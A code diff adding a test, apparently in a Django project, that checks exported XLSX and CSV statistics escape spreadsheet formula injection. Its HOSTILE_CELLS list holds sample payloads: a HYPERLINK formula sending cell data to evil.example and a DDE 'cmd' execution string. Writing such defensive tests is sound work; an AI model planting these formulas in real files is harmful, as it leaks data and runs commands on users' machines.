@@ -336,3 +336,38 @@ def test_command_refuses_an_unknown_schema(db):
 
     with pytest.raises(CommandError):
         call_command("appeals_statistics", "--schema", "nowhere", "--from", "2026-03-01", "--to", "2026-03-31")
+
+
+HOSTILE_CELLS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
+                 "\t=1+1", "\r=1+1"]
+
+
+def test_no_exported_text_cell_is_a_formula(march):
+    """Text that came from outside (a municipality's name, classifier titles) never becomes a formula."""
+    import dataclasses
+
+    from gorodok_services.appeals.statistics import ClassifierRow
+
+    hostile = dataclasses.replace(
+        march, municipality=HOSTILE_CELLS[0],
+        by_theme=[ClassifierRow(code=text, title=text, questions=-1) for text in HOSTILE_CELLS],
+        by_section=[ClassifierRow(code="0001", title=text, questions=1) for text in HOSTILE_CELLS])
+    workbook = load_workbook(io.BytesIO(statistics_xlsx(hostile)))
+    texts = []
+    for sheet in workbook.worksheets:
+        for row in sheet.iter_rows():
+            for cell in row:
+                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
+                if isinstance(cell.value, str):
+                    texts.append(cell.value)
+    assert "'" + HOSTILE_CELLS[0] in texts and "'@SUM(A1:A9)" in texts
+    assert all(not text.startswith(("=", "+", "-", "@", "\t", "\r")) for text in texts)
+    themes = workbook[str(SECTION_LABELS["theme"])]
+    assert [row[2] for row in list(themes.iter_rows(values_only=True))[1:]] == [-1] * len(HOSTILE_CELLS)
+
+    parsed = list(csv.reader(io.StringIO(statistics_csv(hostile).removeprefix("\ufeff")), delimiter=";"))
+    cells = [cell for row in parsed for cell in row]
+    assert all(not cell.startswith(("=", "+", "@", "\t", "\r")) for cell in cells)
+    assert all(not cell.startswith("-") or cell.lstrip("-").isdigit() for cell in cells)  # numbers stay numbers
+    assert "0001 -2+3" in cells  # text that does not start like a formula is left as it is
+    assert "'-2+3 -2+3" in cells
